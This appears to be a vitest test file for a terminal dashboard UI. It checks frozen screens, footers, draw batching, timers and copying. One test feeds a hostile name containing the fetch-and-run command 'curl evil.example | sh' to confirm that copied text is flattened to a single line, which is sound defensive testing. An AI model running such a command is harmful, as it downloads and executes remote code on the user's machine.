import { expect, test, vi } from 'vitest';
import type { ScreenName } from '../../../src/actions/screen-table.ts';
import { textOf } from '../../support/drawn-table.ts';
import { fakeServices, type Overrides } from '../../support/fake-services.ts';
import { sampleState } from '../../support/sample-state.ts';
import { UiDriver } from '../../support/ui-driver.ts';

const SIZE = { columns: 120, rows: 40 };

function open(screen: ScreenName = 'overview', size = SIZE, overrides: Overrides = {}) {
  const services = fakeServices(sampleState(), overrides);
  const hands = new UiDriver(services, size, screen);
  const { runtime } = hands;
  const draws = () => {
    const seen = { times: 0 };
    runtime.subscribe(() => seen.times++);
    return seen;
  };
  return { services, hands, runtime, draws, clock: services.clock };
}

test('a frozen screen does not change and says for how long, while data is still collected', async () => {
  const { hands, services, clock } = open();
  hands.press('space');
  await clock.advance(42_000);
  services.show(sampleState({ name: 'another name' }));
  hands.sees('FROZEN 42s').lacks('another name').press('space').sees('another name').lacks('FROZEN');
});

test('keys typed into a dialog are text, not commands', () => {
  const { hands } = open();
  expect(hands.press(':', 'q').quits).toBe(0);
  expect(hands.press('esc', 'q').quits).toBe(1);
});

test('copied text is one line, whatever line ends a hostile name has', () => {
  const { runtime, services } = open();
  runtime.copy('live\ncurl evil.example | sh\r\n\u2028x\t\x85y  z', 'the name');
  expect(services.copied).toEqual(['live curl evil.example | sh x y  z']);
});

test.each([39, 24, 12, 3])(
  'the note in a window of %i columns, which is too small, is one line',
  (columns) => {
    const rows = open('overview', { columns, rows: 8 }).hands.screen.split('\n');
    expect(rows.filter((line) => line.trim() !== '')).toEqual([expect.stringContaining('40×')]);
  },
);

test('the footer keeps its keys under a notice, and names only keys that do something', () => {
  const { hands, runtime } = open('servers');
  const footer = () => hands.screen.split('\n').at(-1) ?? '';
  const border = () => hands.pane('servers.list')?.lines.at(-1) ?? [];
  expect(textOf(border())).toMatch(/^└─ \/ filter ─ f narrow ─ s sort ─+┘$/);
  expect(border().find(({ text }) => text === 's')?.link).toEqual({ kind: 'command', id: 'table.sort' });
  expect(footer()).toMatch(/enter open .*\? help .*q quit/);
  expect(footer()).not.toMatch(/filter|sort/);
  runtime.notice('Copied the name edge-1a.', 'ok');
  expect(footer()).toMatch(/Copied the name edge-1a\. │ .*enter open .*\? help .*q quit/);
  runtime.goTo('servers', { opened: 'edge-1a' });
  expect(footer() + textOf(border())).not.toMatch(/filter|sort|view/);
  hands.press('2');
  expect(footer()).not.toMatch(/open|acknowledge/);
});

test('changes within 60 ms are drawn together', async () => {
  const { hands, services, runtime, clock, draws } = open();
  runtime.start();
  await clock.advance(500);
  const seen = draws();
  for (const name of ['one', 'two', 'three']) {
    services.show(sampleState({ name }));
    await clock.advance(10);
  }
  expect(seen.times).toBe(0);
  await clock.advance(30);
  expect(seen.times).toBe(1);
  hands.sees('three');
  runtime.stop();
});

test('the clock advances each second, on the second, and a notice disappears after five', async () => {
  const { runtime, clock } = open();
  runtime.start();
  runtime.notice('Copied the name.', 'ok');
  const header = () =>
    runtime
      .panes()
      .flatMap(({ lines }) => lines.map(textOf))
      .join('\n');
  const clockOf = () => /\d\d:\d\d:\d\d(?= *$)/m.exec(header())?.[0].slice(-2);
  for (const [ms, second] of [
    [999, '00'],
    [1, '01'],
    [5_000, '06'],
  ] as const) {
    await clock.advance(ms);
    expect([clockOf(), second === '06' || header().includes('Copied')]).toEqual([second, true]);
  }
  expect(header()).not.toContain('Copied');
  runtime.stop();
});

test('nothing is drawn and no timer is left after the end', async () => {
  const { services, runtime, clock, draws } = open();
  runtime.start();
  services.show(sampleState({ name: 'late' }));
  runtime.stop();
  const seen = draws();
  services.show(sampleState({ name: 'later' }));
  await clock.advance(5_000);
  expect([seen.times, clock.waiting]).toEqual([0, 0]);
});

test('another cluster starts with nothing opened, frozen or visited', () => {
  const { hands, runtime } = open();
  hands.press('3', 'enter', 'space', '?');
  runtime.forget();
  expect(runtime.ui.getState()).toMatchObject({ slices: {}, back: [], dialogs: [], held: undefined });
});

test('a screen reads what it needs when it is entered, and not again while it stays open', () => {
  const readAudit = vi.fn(async () => ({ entries: [], unreadable: 0, path: undefined }));
  const { hands } = open('servers', SIZE, { readAudit });
  const reads = (...keys: string[]) => hands.press(...keys) && readAudit.mock.calls.length;
  expect([reads('6'), reads('6', 'j', 'k'), reads('3', '6')]).toEqual([1, 1, 2]);
});
